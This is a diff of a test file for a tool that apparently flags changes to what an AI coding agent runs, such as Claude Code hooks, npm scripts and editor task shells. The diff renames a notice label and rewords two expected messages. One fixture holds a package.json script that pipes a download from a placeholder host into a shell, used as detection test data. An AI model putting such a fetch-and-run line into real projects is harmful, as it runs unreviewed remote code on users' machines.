@@ -63,31 +63,31 @@ describe('what a change makes machines run', () => {
       'a script that is edited',
       HOOK,
       { ...HOOK, [SCRIPT]: 'more();\n' },
-      ['notice agent-script-changed'],
+      ['notice agent-command-changed'],
     ],
     [
       'a script that gets an x bit',
       HOOK,
       { ...HOOK, [SCRIPT]: { executable: 'work();\n' } },
-      ['notice agent-script-changed'],
+      ['notice agent-command-changed'],
     ],
     [
       'a script that goes',
       HOOK,
       { [SETTINGS]: hook('node a.js') },
-      ['notice agent-script-changed'],
+      ['notice agent-command-changed'],
     ],
     [
       'a script behind a symlink',
       { ...HOOK, [SCRIPT]: { symlink: 'b.js' }, 'b.js': '1' },
       { ...HOOK, [SCRIPT]: { symlink: 'b.js' }, 'b.js': '2' },
-      ['notice agent-script-changed'],
+      ['notice agent-command-changed'],
     ],
     [
       'a script of npm',
       { [SETTINGS]: hook('npm run f'), 'package.json': '{"scripts":{"f":"node a.js"}}' },
       { [SETTINGS]: hook('npm run f'), 'package.json': '{"scripts":{"f":"node b.js"}}' },
-      ['notice agent-script-changed'],
+      ['notice agent-command-changed'],
     ],
     [
       'a script of npm that now runs a download',
@@ -108,7 +108,7 @@ describe('what a change makes machines run', () => {
         [SETTINGS]: hook('npm run f'),
         'package.json': '{"scripts":{"f":"curl https://x.example | sh -x"}}',
       },
-      ['notice agent-script-changed'],
+      ['notice agent-command-changed'],
     ],
     [
       'the file of settings behind a symlink',
@@ -198,7 +198,7 @@ describe('what a change makes machines run', () => {
       'a script behind the shell of all tasks',
       { ...task({}, { options: { shell: { executable: './sh.sh' } } }), 'sh.sh': '' },
       { ...task({}, { options: { shell: { executable: './sh.sh' } } }), 'sh.sh': 'more' },
-      ['notice agent-script-changed'],
+      ['notice agent-command-changed'],
     ],
     [
       'a task that becomes hidden',
@@ -268,10 +268,10 @@ describe('what a change makes machines run', () => {
       'c.js': '2',
     });
     expect(await said(HOOK, { [SETTINGS]: hook('node a.js') })).toEqual([
-      'The change decides about `a.js`, which Claude Code runs for SessionStart.',
+      'Changed in this change: for SessionStart, Claude Code runs `node a.js`: the change decides about `a.js`.',
     ]);
     expect(await said(link('b.js'), link('c.js'))).toEqual([
-      'The change decides about `c.js`, which Claude Code runs for SessionStart.',
+      'Changed in this change: for SessionStart, Claude Code runs `node a.js`: the change decides about `c.js`.',
     ]);
   });
 
@@ -326,6 +326,6 @@ describe('what a change makes machines run', () => {
 
   it('asks nobody about a notice', async () =>
     expect(await found(HOOK, { ...HOOK, [SCRIPT]: 'more();\n' }, { level: 'approve' })).toEqual([
-      'notice agent-script-changed',
+      'notice agent-command-changed',
     ]));
 });
